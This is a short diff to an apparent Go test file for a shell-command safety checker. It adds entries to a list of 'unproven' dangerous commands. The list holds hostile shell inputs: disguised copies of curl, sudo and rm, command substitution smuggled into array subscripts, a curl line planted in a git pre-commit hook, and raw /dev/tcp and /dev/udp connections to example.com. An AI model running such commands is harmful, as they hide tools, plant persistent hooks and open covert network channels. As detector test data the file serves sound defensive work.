@@ -426,6 +426,7 @@ var attacks = []attack{
 // unproven are dangers whose proof would need what is not on every machine, or
 // would do harm.
 var unproven = []string{
+	`cp /usr/bin/curl ./x2`, `ln -s /bin/rm x3`, `cat /usr/bin/sudo > x4`,
 	`x=$(printf '\44(curl x)'); [[ -v a[$x] ]]`, `x=$(printf 'a[\44(curl x)]'); [ -v "$x" ]`,
 	`cat > .git/hooks/pre-commit <<< 'curl x'`, `echo x > sub/.git/config`,
 	`exec 3<>/dev/tcp/example.com/80`, `cat < /dev/tcp/example.com/80`, `echo x > /dev/udp/1.2.3.4/5`, `p=/dev/tcp/a/80; cat < $p`, `p=/dev/tcp; echo > $p/a/80`,
